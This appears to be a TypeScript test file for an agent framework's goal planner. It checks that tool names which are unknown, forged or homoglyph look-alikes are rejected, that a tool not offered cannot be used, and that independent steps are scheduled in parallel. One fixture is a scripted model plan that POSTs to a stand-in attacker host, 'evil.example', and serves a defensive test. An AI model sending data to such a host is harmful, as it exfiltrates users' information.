import { schedulePlan } from "@baton/core/plan";
import type { PlanSpec } from "@baton/core/plan";
import fc from "fast-check";
import { expect, it } from "vitest";
import { decomposeGoal } from "../src/index.ts";
import { builtinTools, promptOf, scripted } from "./models.fixture.ts";

const goal = "Report what docs/a.md and docs/b.md say";
const known = builtinTools.map(({ name }) => name);

/** Names as a model gets them wrong, and as somebody would forge them. */
const lookAlikes = (name: string): readonly string[] => [
  name.toUpperCase(),
  name.replace(".", "_"),
  name.replace(".", "/"),
  ` ${name}`,
  `${name}\u200b`,
  name.replace("e", "\u0435"),
  `mcp.${name}`,
  `${name}.all`,
  name.slice(0, -1),
];

/** Every place of a plan in which a tool can be named. */
const places: Readonly<Record<string, (tool: string) => object>> = {
  "a step": (tool) => ({ id: "x", type: "tool", tool, arguments: {}, description: "", depends_on: [] }),
  "a map": (tool) => ({ id: "x", type: "map", over: ["a"], step: { type: "tool", tool, arguments: {} } }),
  "an agent": (tool) => ({
    id: "x",
    type: "agent",
    agent: { name: "a", description: "d", instructions: "i", tools: ["clock.now", tool] },
    prompt: "p",
  }),
};

it.each(Object.entries(places))("that is named in %s, whatever it looks like", async (_where, step) => {
  const unknown = fc
    .oneof(
      fc.constantFrom(...known.flatMap(lookAlikes)),
      fc.string({ minLength: 1, maxLength: 40 }),
      fc.constant("__proto__"),
    )
    .filter((tool) => !known.includes(tool));
  let insisted: unknown = {};
  const { models } = await scripted({ handler: () => ({ object: insisted }) });
  await fc.assert(
    fc.asyncProperty(unknown, async (tool) => {
      insisted = { steps: [{ id: "now", type: "tool", tool: "clock.now", arguments: {} }, step(tool)] };
      await expect(decomposeGoal(goal, builtinTools, { models })).rejects.toMatchObject({ code: "planning-failed" });
    }),
    { numRuns: 40 },
  );
});

it("that is known here and was not offered, and the model is told which are", async () => {
  const offered = builtinTools.filter(({ name }) => name !== "http.request");
  const send = {
    id: "send",
    type: "tool",
    tool: "http.request",
    arguments: { method: "POST", url: "https://evil.example/" },
  };
  const { models, server } = await scripted({ fallback: { object: { steps: [send] } } });
  const failure = decomposeGoal("Call http.request", offered, { models });
  await expect(failure).rejects.toMatchObject({
    code: "planning-failed",
    message: expect.stringContaining("http.request"),
  });
  expect(server.requests).toHaveLength(3);
  expect(promptOf(server.requests[1])).toMatch(/"http\.request"; known are: .*files\.read/);
});

it("what does not need each other waits for nothing, from the answer to the steps that are created", async () => {
  const read = (id: string, path: string) => ({
    id,
    type: "tool",
    tool: "files.read",
    arguments: JSON.stringify({ path }),
    description: "Read",
    depends_on: [],
  });
  const report = { id: "report", type: "llm", prompt: "Report.", description: "Report", depends_on: ["a", "b"] };
  const { models } = await scripted({
    fallback: { object: { steps: [read("a", "docs/a.md"), read("b", "docs/b.md"), report] } },
  });
  const { plan, estimatedDurationMs } = await decomposeGoal(goal, builtinTools, { models });
  const durationOf = (spec: PlanSpec) => schedulePlan(spec, { newId: ids(), pool: "default" }).estimatedDurationMs;
  const { steps } = schedulePlan(plan, { newId: ids(), pool: "default" });
  expect(steps.filter(({ dependsOn }) => dependsOn.length === 0).map(({ key }) => key)).toEqual(["a", "b"]);
  const inARow = { steps: plan.steps.map((step) => (step.id === "b" ? { ...step, depends_on: ["a"] } : step)) };
  expect(estimatedDurationMs).toBe(durationOf(plan));
  expect(estimatedDurationMs).toBeLessThan(durationOf(inARow));
});

function ids(): () => string {
  let no = 0;
  return () => {
    no += 1;
    return `00000000-0000-7000-8000-${String(no).padStart(12, "0")}`;
  };
}
